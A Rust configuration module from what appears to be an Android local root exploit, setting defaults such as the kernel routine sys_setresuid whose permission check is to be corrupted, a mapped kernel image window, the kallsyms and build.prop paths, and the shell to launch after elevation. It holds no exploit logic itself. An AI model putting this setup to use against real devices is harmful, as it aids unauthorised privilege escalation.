//! Run-time options
//!
//! There is no configuration file; [`Options::default`] holds everything the binary needs.

use std::path::PathBuf;

/// Routine whose permission check gets corrupted
pub const TARGET_SYMBOL: &str = "sys_setresuid";

/// Size of the kernel image window mapped by the memory-window strategy (16 MiB)
pub const IMAGE_WINDOW_SIZE: usize = 0x100_0000;

/// Bytes scanned from the start of the target routine when looking for the comparison
pub const CMP_SCAN_WINDOW: usize = 0x100;

/// Interpreter started once privilege has been elevated
pub const SHELL_PATH: &str = "/system/bin/sh";

/// Exported-symbol listing of the running kernel
pub const KALLSYMS_PATH: &str = "/proc/kallsyms";

/// Property file holding the device model and build identifiers
pub const BUILD_PROP_PATH: &str = "/system/build.prop";

/// Options shared by the binary's strategies
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Options {
    /// Interpreter to `exec` after elevation
    pub shell: PathBuf,
    /// Exported-symbol listing
    pub kallsyms: PathBuf,
    /// Device property file
    pub build_prop: PathBuf,
    /// Name of the routine to patch
    pub target_symbol: String,
    /// Length of the mapped kernel image window
    pub image_window: usize,
    /// Length of the comparison scan
    pub cmp_scan_window: usize,
}

impl Default for Options {
    fn default() -> Self {
        Self {
            shell: PathBuf::from(SHELL_PATH),
            kallsyms: PathBuf::from(KALLSYMS_PATH),
            build_prop: PathBuf::from(BUILD_PROP_PATH),
            target_symbol: TARGET_SYMBOL.to_owned(),
            image_window: IMAGE_WINDOW_SIZE,
            cmp_scan_window: CMP_SCAN_WINDOW,
        }
    }
}
